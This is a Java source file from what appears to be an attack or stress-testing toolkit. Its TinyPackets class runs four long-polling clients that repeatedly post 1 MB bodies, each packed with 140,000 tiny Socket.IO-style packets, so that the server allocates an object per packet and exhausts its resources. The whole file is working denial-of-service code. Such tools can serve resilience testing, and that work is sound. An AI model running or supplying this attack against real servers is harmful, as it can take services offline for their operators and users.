package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.RawPolling;
import java.io.IOException;
import java.util.Collections;

/** A body within the limit of its size costs the server an object for each of its packets. */
final class TinyPackets implements Attack {
    private static final int CLIENTS = 4;
    private static final int PACKETS = 140_000;
    private static final String BODY =
            String.join(String.valueOf(RawPolling.SEPARATOR), Collections.nCopies(PACKETS, "42[\"\"]"));

    @Override
    public String name() {
        return "tiny-packets";
    }

    @Override
    public String summary() {
        return "4 polling clients post bodies of 1 MB with 140,000 tiny packets each";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(CLIENTS, () -> session(attacker));
    }

    private static void session(Attacker attacker) throws IOException {
        try (RawPolling client = attacker.polling()) {
            while (!attacker.isStopped()) {
                client.post(BODY);
                attacker.count();
                client.poll();
            }
        }
    }
}
